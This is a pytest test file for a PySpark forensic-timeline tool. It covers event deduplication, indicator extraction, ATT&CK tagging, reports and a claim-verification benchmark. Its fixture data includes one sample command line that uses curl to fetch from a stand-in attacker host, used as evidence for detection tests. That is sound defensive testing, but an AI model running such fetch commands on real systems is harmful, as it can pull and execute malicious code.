"""Whole-case behaviour: duplicates, enrichment, reports, claims and scores."""

import json

import pytest
from pyspark.sql import functions as F

from timeloom.functions import details as D
from timeloom.operators import indicators, normalize, rounds, tagging, views
from timeloom.operators.verify import accepted_claims, tolerance_text, verify_claims
from timeloom.plans import evaluate, outputs, report
from timeloom.plans.case import EmptyCaseError, EvidenceInput, analyze, case_from_events
from timeloom.sources import claims as claim_source
from timeloom.sources import events_jsonl

HEADER = "Timestamp,Computer,Channel,EventID,Level,MitreTags,RecordID,RuleTitle,Details\n"
ROWS = [
    '2026-03-14T08:00:00Z,WS-1,Sec,4688,high,T1059.001,1,First,"Proc: C:\\Windows\\powershell.exe ¦ User: jdoe ¦ Cmdline: curl http://evil.example.net/a 203.0.113.9"',
    '2026-03-14T08:00:00Z,WS-1,Sec,4688,low,T1070.001 ¦ T1059.001,2,Second,"Proc: C:\\Windows\\powershell.exe ¦ User: jdoe"',
    '2026-03-14T08:00:00Z,WS-1,Sec,4688,low,,3,First,"Proc: C:\\Windows\\powershell.exe ¦ User: jdoe"',
    '2026-03-14T08:01:00Z,WS-1,Sys,7045,med,T1043 ¦ T9999,4,Service,"Svc: Helper ¦ Path: c:\\windows\\POWERSHELL.exe"',
    '2026-03-14T09:30:00Z,WS-1,App,1,info,,5,Quiet,-',
    "broken,WS-1,App,1,info,,6,Bad,-",
]


@pytest.fixture(scope="module")
def evidence(tmp_path_factory):
    path = tmp_path_factory.mktemp("in") / "timeline.csv"
    path.write_text(HEADER + "\n".join(ROWS) + "\n", encoding="utf-8")
    return str(path)


@pytest.fixture(scope="module")
def case(spark, catalog, evidence):
    return analyze(spark, [EvidenceInput("hayabusa", evidence)], "demo", catalog)


def test_duplicates_merge_and_keep_provenance(case):
    stats = report.stats(case).first()
    assert (stats["events"], stats["records_read"], stats["duplicates"], stats["problems"]) == (3, 6, 2, 1)
    merged = case.events.filter("action = 'process_create'").first()
    assert merged["details"]["scalars"]["rule_title"] == "First"
    assert merged["details"]["lists"]["rule_mitre_tags"] == ["T1059.001", "T1070.001"]
    assert merged["details"]["lists"]["additional_rule_titles"] == ["Second"]
    assert merged["details"]["scalars"]["level"] == "high"
    techniques = [(t["technique_id"], t["source_id"]) for t in merged["attack_techniques"]]
    assert techniques == [("T1059.001", None), ("T1685.005", "T1070.001")]
    sources = report.provenance_table(case).filter(F.col("event_id") == merged["event_id"])
    assert [r["source"] for r in sources.orderBy("ord").collect()] == [
        "timeline.csv#1", "timeline.csv#2", "timeline.csv#3",
    ]


def test_same_file_twice_is_all_duplicates(spark, catalog, evidence):
    item = EvidenceInput("hayabusa", evidence)
    twice = analyze(spark, [item, item], "twice", catalog)
    stats = report.stats(twice).first()
    assert (stats["events"], stats["duplicates"], stats["records_read"]) == (3, 7, 12)
    assert [r["records"] for r in twice.inputs.orderBy("input").collect()] == [6, 6]


def test_empty_case_is_an_error_with_reasons(spark, catalog, tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text(HEADER + "never,a,b,1,,,1,t,-\n")
    with pytest.raises(EmptyCaseError) as failure:
        analyze(spark, [EvidenceInput("hayabusa", str(path))], "bad", catalog)
    assert failure.value.records == 1 and failure.value.problems.count() == 1
    with pytest.raises(ValueError):
        analyze(spark, [], "none", catalog)


def test_report_tables(case):
    episodes = report.episodes_table(case).collect()
    assert [e["event_count"] for e in episodes] == [2, 1]
    assert episodes[0]["techniques"] == ["T1059.001", "T1685.005", "T1043", "T9999"]
    values = {(r["ioc_type"], r["value"]): r["event_count"] for r in case.indicators.collect()}
    assert values[("path", "C:\\Windows\\powershell.exe")] == 2
    assert values[("domain", "evil.example.net")] == values[("ip", "203.0.113.9")] == 1
    unmapped = {tuple(r) for r in report.unmapped_techniques(case.events, case.catalog).collect()}
    assert unmapped == {("T1043", "deprecated", 1), ("T9999", "unknown", 1)}
    found = report.findings(case).collect()
    assert len(found) == 2 and found[0]["severity"] == "high"
    assert found[0]["statement"] == "jdoe started C:\\Windows\\powershell.exe."
    annotated = {r["event_id"]: r for r in report.events_table(case).collect()}
    iocs = annotated[found[0]["backing_event_id"]]["referenced_iocs"]
    assert [i["type"] for i in iocs] == ["ip", "domain", "path"]
    assert iocs[1]["defanged"] == "evil[.]example[.]net"
    capped = report.displayed_events(case, 2).collect()
    assert len(capped) == 2 and all(r["capped"] and r["notable"] for r in capped)
    assert report.displayed_events(case, 3).filter("capped").count() == 0


def test_layer_and_files(spark, case, tmp_path):
    layer = json.loads(outputs.technique_layer(case.events, case.catalog, "demo").first()["value"])
    assert [(t["techniqueID"], t["score"]) for t in layer["techniques"]] == [
        ("T1059.001", 1), ("T1685.005", 1),
    ]
    assert "T1043, T9999" in layer["description"] and layer["gradient"]["maxValue"] == 1
    outputs.write_layer(case.events, case.catalog, "demo", str(tmp_path / "layer"))
    outputs.write_report(case, str(tmp_path / "report"))
    assert spark.read.parquet(str(tmp_path / "report" / "findings")).count() == 2
    outputs.write_events_parquet(case.events, str(tmp_path / "events"))
    day = spark.read.parquet(str(tmp_path / "events")).filter("day = date'2026-03-14'")
    assert day.count() == 3


def test_reload_and_enrich_again_changes_nothing(spark, case, tmp_path):
    path = str(tmp_path / "events")
    outputs.write_events_jsonl(case.events, path)
    loaded = events_jsonl.read(spark, path)
    again = case_from_events(loaded, "again", case.catalog)

    def lines(df):
        return sorted(
            json.dumps(json.loads(r["value"]), sort_keys=True)
            for r in outputs.event_lines(df).collect()
        )

    assert lines(again.events) == lines(case.events)


def test_tampered_events_are_refused(spark, case, tmp_path):
    path = tmp_path / "tampered"
    lines = [r["value"] for r in outputs.event_lines(case.events).collect()]
    changes = [
        lambda e: e.update(host="OTHER"),
        lambda e: e.update(message=None),
        lambda e: e.update(tags="abc"),
        lambda e: e.update(extra=1),
        lambda e: e.update(datetime="2026-99-99T00:00:00Z"),
    ]
    for number, change in enumerate(changes):
        event = json.loads(lines[0])
        change(event)
        target = tmp_path / f"bad{number}.jsonl"
        target.write_text(lines[1] + "\n" + json.dumps(event) + "\n")
        with pytest.raises(events_jsonl.InvalidEventsError):
            events_jsonl.read(spark, str(target))
    path.write_text("\n".join(lines + lines))
    assert events_jsonl.read(spark, str(path)).count() == len(lines)


def test_benchmark_misjudges_nothing(case):
    found = evaluate.evaluate(case)
    bench = found.metrics["verifier_benchmark"]
    assert bench["false_accepts"] == bench["false_rejects"] == found.misjudged.count() == 0
    assert found.metrics["attack"]["techniques_observed"] == case.technique_ids().count()
    assert bench["passed"] and bench["unexpected_reasons"] == 0
    assert bench["fabrications"] == bench["fabrications_rejected"] > 0
    assert bench["grounded"] == bench["grounded_accepted"] == 3 * 8
    kinds = {c["kind"] for c in bench["classes"]}
    assert len(kinds) == 22


def test_benchmark_catches_a_blind_verifier(case):
    claims = evaluate.build_benchmark(case.events)
    blind = claims.withColumn(
        "asserts",
        F.struct(
            *[
                (F.lit(None).cast("string") if n == "object" else F.col(f"asserts.{n}")).alias(n)
                for n in ("datetime", "principal", "action", "object")
            ]
        ),
    )
    judged = evaluate.run_benchmark(case.events, blind)
    classes = {r["kind"]: r for r in evaluate.benchmark_classes(judged).collect()}
    assert classes["object_swap"]["correct"] < classes["object_swap"]["total"]
    wrong = sum(r["total"] - r["correct"] for r in classes.values())
    assert evaluate.misjudged(judged).count() == wrong


def _brute_partner(events, event):
    def fold(p):
        return (p or "").strip().casefold()

    for other in events:
        if other["action"] != event["action"] and fold(other["principal"]) != fold(event["principal"]):
            return other["event_id"]
    return None


def test_partners_equal_the_full_scan(spark):
    import random

    rng = random.Random(7)
    for size in (1, 3, 8, 60):
        rows = [
            (f"{i:064d}", i, rng.choice(["logon", "logoff", "other"]), rng.choice([None, "A", "a", "B", "C"]))
            for i in range(size)
        ]
        df = spark.createDataFrame(rows, "event_id string, i long, action string, principal string")
        df = df.withColumn("ts", F.timestamp_micros("i"))
        partners = evaluate._partners(df)
        assert len(partners) <= 5
        events = [r.asDict() for r in df.orderBy("ts", "event_id").collect()]
        for event in events:
            fold = (event["principal"] or "").strip().casefold()
            fits = [p for p in partners if p["action"] != event["action"] and p["who"] != fold]
            assert (fits[0]["at"]["event_id"] if fits else None) == _brute_partner(events, event)


def test_verdict_reasons_and_order(spark, case):
    one = case.events.filter("action = 'process_create'").first()
    two = case.events.filter("action = 'service_install'").first()
    missing = "0" * 64

    def claim(asserts, citations):
        return {"text": "t", "citations": citations, "asserts": asserts}

    cases = [
        (claim({"action": "PROCESS_CREATE", "principal": " JDOE "}, [one["event_id"]]), None),
        (claim({"action": "process_create"}, [two["event_id"], one["event_id"]]), None),
        (claim({"action": "x"}, ["EVT-1", missing]), "malformed_citation"),
        (claim({}, []), "no_citations"),
        (claim({}, [one["event_id"]]), "no_assertions"),
        (claim({"action": "x"}, [one["event_id"], missing]), "missing_id"),
        (claim({"datetime": "2026-03-14T08:00:01Z"}, [one["event_id"]]), None),
        (claim({"datetime": "2026-03-14T08:00:01.000001Z"}, [one["event_id"]]), "time_mismatch"),
        (claim({"datetime": "soon", "action": "x"}, [one["event_id"]]), "time_mismatch"),
        (claim({"principal": "x"}, [two["event_id"]]), "principal_mismatch"),
        (claim({"action": "logon", "object": "x"}, [one["event_id"]]), "action_mismatch"),
        (claim({"object": "x"}, [one["event_id"]]), "object_mismatch"),
    ]
    docs = spark.createDataFrame([(json.dumps([c for c, _ in cases]),)], "value string")
    parsed = claim_source.parse(docs).withColumn("claim_id", F.col("index"))
    rows = verify_claims(parsed, case.events).orderBy("index").collect()
    assert [r["reason"] for r in rows] == [reason for _, reason in cases]
    assert rows[1]["backing_event_id"] == one["event_id"]
    assert all(one["event_id"][12:] not in r["detail"] for r in rows if r["reason"] != "missing_id")
    accepted = {r["index"]: r for r in accepted_claims(verify_claims(parsed, case.events), case.events).collect()}
    assert accepted[0]["verified"]["principal"] == "jdoe"
    assert accepted[0]["statement"].startswith("principal jdoe, action process_create [event ")
    results = outputs.claim_results(parsed, case.events)
    assert outputs.claim_totals(results).first()["accepted"] == 3
    assert tolerance_text(1.0) == "0:00:01" and tolerance_text(90061.5) == "1 day, 1:01:01.500000"


def test_claims_of_one_citation_are_judged_in_one_join(spark, case):
    one, two = (case.events.filter(F.col("action") == a).first() for a in ("process_create", "service_install"))
    missing = "0" * 64
    cited = [[one["event_id"]], [two["event_id"]], [missing], [one["event_id"], missing], [missing, two["event_id"]], []]
    docs = [{"text": "t", "citations": c, "asserts": {"action": "process_create"}} for c in cited]
    parsed = claim_source.parse(spark.createDataFrame([(json.dumps(docs),)], "value string")).withColumn("claim_id", F.col("index"))
    verdict = ("claim_id", "ok", "backing_event_id", "reason", "detail")

    def judged(events):
        return sorted(tuple(r) for r in verify_claims(parsed, events).select(*verdict).collect())

    # Over events that occur twice, every claim is gathered; the verdicts are the same.
    singly = judged(case.events)
    assert singly == judged(case.events.unionByName(case.events.filter(F.col("event_id") != one["event_id"])))[:2] + singly[2:]
    assert [r[1] for r in singly] == [True, False, False, False, False, False]
    assert [r[3] for r in singly] == [None, "action_mismatch", "missing_id", "missing_id", "missing_id", "no_citations"]
    plan = verify_claims(parsed, case.events).filter("ok")._jdf.queryExecution().optimizedPlan().toString()
    # One join for single citations, two for the rest, whose verdicts alone are gathered.
    assert plan.count("Join ") == 3


def test_rounds(spark, case):
    one = case.events.filter("action = 'process_create'").first()["event_id"]

    def draft(*claims):
        return json.dumps({"claims": list(claims)})

    def claim(text, ok, revises=None):
        asserts = {"action": "process_create" if ok else "logoff"}
        return {"text": text, "citations": [one], "asserts": asserts, "revises": revises}

    rows = [
        ("a", 0, draft(claim("good", True), claim("bad0", False), claim("bad1", False))),
        ("a", 1, draft(claim("fix1", True, "c1"), claim("again", False, "c1"), claim("new", False, "zz"))),
        ("a", 2, draft(claim("fix3", True, "c3"), claim("late", False, "c0"))),
        ("b", 0, draft(claim("fine", True))),
        ("b", 1, draft(claim("ignored", False))),
        ("c", 0, "garbage"),
    ]
    drafts = spark.createDataFrame(rows, "case_id string, round int, document string")
    result = rounds.resolve(drafts, case.events)
    accepted = {(r["case_id"], r["round_index"], r["text"]) for r in result.accepted.collect()}
    assert accepted == {("a", 0, "good"), ("a", 1, "fix1"), ("a", 2, "fix3"), ("b", 0, "fine")}
    audit = [
        (r["round_index"], r["kind"], r["claim_text"], r["dropped"])
        for r in result.audit.orderBy("case_id", "round_index", "kind", "sequence").collect()
    ]
    assert audit == [
        (0, 0, "bad0", False), (0, 0, "bad1", False), (1, 0, "again", False), (1, 0, "new", False),
        (2, 0, "late", True), (2, 1, "again", True),
    ]
    assert {tuple(r) for r in result.rounds.collect()} == {("a", 3), ("b", 1), ("c", 1)}
    told = case_from_events(case.events, "told", case.catalog, drafts=drafts)
    story = report.narrative(told).filter("case_id = 'a'").collect()
    assert len(story) == 1 and story[0]["round_index"] == 0
    assert story[0]["verified_fields"] == ["action"]
    assert report.stats(told).first()["rejected_claims"] == 6
    single = rounds.resolve(drafts, case.events, max_rounds=0)
    assert single.audit.filter("NOT dropped").count() == 0


def test_accepted_claims_meet_their_event_once(spark, case):
    one, two = (case.events.filter(F.col("action") == a).first() for a in ("process_create", "service_install"))

    def draft(*citations):
        return json.dumps([{"text": "t", "citations": c, "asserts": {"action": "process_create"}} for c in citations])

    def resolved(*documents):
        rows = [(f"c{i}", 0, d) for i, d in enumerate(documents)]
        return rounds.resolve(spark.createDataFrame(rows, "case_id string, round int, document string"), case.events)

    def joins(df):
        return df._jdf.queryExecution().optimizedPlan().toString().count("Join ")

    plain = resolved(draft([one["event_id"]], [two["event_id"]])).accepted
    assert joins(plain) == 0
    both = resolved(draft([one["event_id"]]), draft([two["event_id"], one["event_id"]])).accepted
    # Of several citations, the backing one is known after all are gathered.
    assert joins(both) == 1
    rows = sorted((r["case_id"], r["backing_event_id"], r["verified"].action, r["verified"].datetime, r["statement"]) for r in both.collect())
    statement = f"action process_create [event {one['event_id'][:12]}]"
    assert rows == [(c, one["event_id"], "process_create", None, statement) for c in ("c0", "c1")]
    assert [r[1:] for r in rows[:1]] == [(r["backing_event_id"], r["verified"].action, None, r["statement"]) for r in plain.collect()]


def test_waiting_claims_are_told_by_case(spark):
    claim = "case_id string, index int, revises string"
    current = spark.createDataFrame([("a", 0, "c1"), ("a", 1, "c1"), ("a", 2, None), ("a", 3, "c9"), ("b", 0, "c1"), (None, 0, "c1")], claim)
    pending = spark.createDataFrame([("a", "c0", 2), ("a", "c1", 3), ("d", "c0", 1)], "case_id string, claim_id string, _next_id bigint")
    rows = rounds._with_targets(current, pending).orderBy("index").collect()
    assert [(r["case_id"], r["index"], r["_target"], r["_next_id"]) for r in rows] == [("a", 0, "c1", 3), ("a", 1, None, 3), ("a", 2, None, 3), ("a", 3, None, 3)]


def test_narrative_joins_its_events_once_without_details(spark, case):
    one = case.events.filter("action = 'process_create'").first()["event_id"]
    document = json.dumps([{"text": "t", "citations": [one], "asserts": {"action": "process_create"}}])
    drafts = spark.createDataFrame([("a", 0, document), ("b", 0, document)], "case_id string, round int, document string")
    story = report.narrative(case_from_events(case.events, "told", case.catalog, drafts=drafts))
    assert {(r["case_id"], r["backing_event_id"], r["severity"]) for r in story.collect()} == {("a", one, "high"), ("b", one, "high")}
    # One with the claims, one with the templates of sentences.
    assert story._jdf.queryExecution().optimizedPlan().toString().count("Join ") == 2


def test_tagging_is_idempotent_and_table_only_ignores_rule_tags(spark, case):
    once = tagging.tag_events(
        case.events, spark.createDataFrame([("T1070.001", "T1685.005")], "technique_id string, revoked_by string")
    )
    same = once.select("event_id", "attack_techniques").collect()
    before = {r["event_id"]: r["attack_techniques"] for r in case.events.select("event_id", "attack_techniques").collect()}
    assert {r["event_id"]: r["attack_techniques"] for r in same} == before
    bare = case.events.withColumn("attack_techniques", F.array().cast(case.events.schema["attack_techniques"].dataType))
    table = tagging.tag_events(bare, use_rule_tags=False)
    ids = {r["action"]: [t["technique_id"] for t in r["attack_techniques"]] for r in table.collect()}
    assert ids["process_create"] == ["T1059.001"] and ids["service_install"] == ["T1543.003"]


def test_tags_are_resolved_in_place_as_by_joins(spark, case, monkeypatch):
    tags = [["T1001", " t1002 ", "no id"], ["T1003.001", "T1001", None], [], None, ["T1002"] * 3]
    rows = spark.createDataFrame([(f"e{i}", t) for i, t in enumerate(tags * 3)], "event_id string, t array<string>")
    one = case.events.drop("event_id", "attack_techniques").limit(1)
    entries = F.map_concat(one["details.lists"], F.create_map(F.lit("rule_mitre_tags"), F.col("t")))
    details = F.struct(F.col("details.scalars"), entries.alias("lists"), F.col("details.maps"))
    events = rows.crossJoin(one).withColumn("details", details.cast(case.events.schema["details"].dataType))
    events = events.withColumn("attack_techniques", F.array().cast(tagging.TECHNIQUES))
    successors = spark.createDataFrame(
        [("T1001", "T1003.001"), ("T1002", "T1009"), ("T1002", "T1008"), (None, "T1007")], "technique_id string, revoked_by string"
    )

    def tagged():
        return tagging.tag_events(events, successors).select("event_id", "attack_techniques")

    placed = tagged()
    plan = placed._jdf.queryExecution().executedPlan().toString()
    assert "Join" not in plan.replace("CartesianProduct", "").replace("BroadcastNestedLoopJoin", "")
    found = {r["event_id"]: [tuple(t) for t in r["attack_techniques"]] for r in placed.collect()}
    assert found["e0"] == [
        ("T1003.001", "rule_tag", "T1001"), ("T1008", "rule_tag", "T1002"), ("T1009", "rule_tag", "T1002")
    ]
    assert found["e1"] == [("T1003.001", "rule_tag", None)]
    monkeypatch.setattr(tagging, "CATALOG_ROWS", 0)
    assert {r["event_id"]: [tuple(t) for t in r["attack_techniques"]] for r in tagged().collect()} == found


def test_costly_rows_are_spread_over_many_tasks(spark):
    from queries import inputs

    one = spark.range(0, 100, 1, 1)
    spread = inputs.spread(one)
    assert spread.rdd.getNumPartitions() >= spark.sparkContext.defaultParallelism
    assert sorted(r["id"] for r in spread.collect()) == list(range(100))


def test_views_within_a_budget(case):
    shown = views.select_view(case.events, 1).collect()
    assert len(shown) == 1 and shown[0]["severity"] == "high"
    assert views.select_view(case.events, None).count() == 3
    with pytest.raises(ValueError):
        views.select_view(case.events, 0)


def test_hot_indicator_and_hot_copies_stay_long(spark, case):
    hits = spark.range(3000).select(
        F.col("id").alias("event_id"),
        F.array(
            F.struct(
                F.lit("domain").alias("ioc_type"), F.lit("a.example").alias("value"),
                F.lit("a.example").alias("key"), F.lit("ioc-1").alias("ioc_id"),
            )
        ).alias("found"),
    )
    index, references = indicators.inverted_index(hits, "event_id")
    assert index.first()["event_count"] == 3000 and references.count() == 3000
    rows = case.events.limit(1).crossJoin(spark.range(2000)).withColumn(
        "ord", F.struct(
            F.lit(0).alias("input"), F.lit("").alias("file"), F.lit(0).cast("long").alias("split"),
            F.col("id").alias("row"), F.lit(0).alias("sub"),
        )
    ).withColumn("reason", F.lit(None).cast("string"))
    assert normalize.deduplicate(rows).count() == 1
    assert normalize.provenance_rows(rows).count() == 2000


def test_details_of_loaded_events_keep_their_lists(case):
    tags = case.events.select(D.values(F.col("details"), "rule_mitre_tags").alias("t"))
    assert {tuple(r["t"] or ()) for r in tags.collect()} == {
        ("T1059.001", "T1070.001"), ("T1043", "T9999"), (),
    }


def test_release_deletes_what_was_written(spark, tmp_path, monkeypatch):
    from timeloom import session

    monkeypatch.setattr(session, "run_folder", lambda _: str(tmp_path / "run"))
    kept = session.materialize(spark.range(3).toDF("n"), "probe")
    assert kept.count() == 3 and list((tmp_path / "run").iterdir())
    session.release(spark)
    assert not (tmp_path / "run").exists()
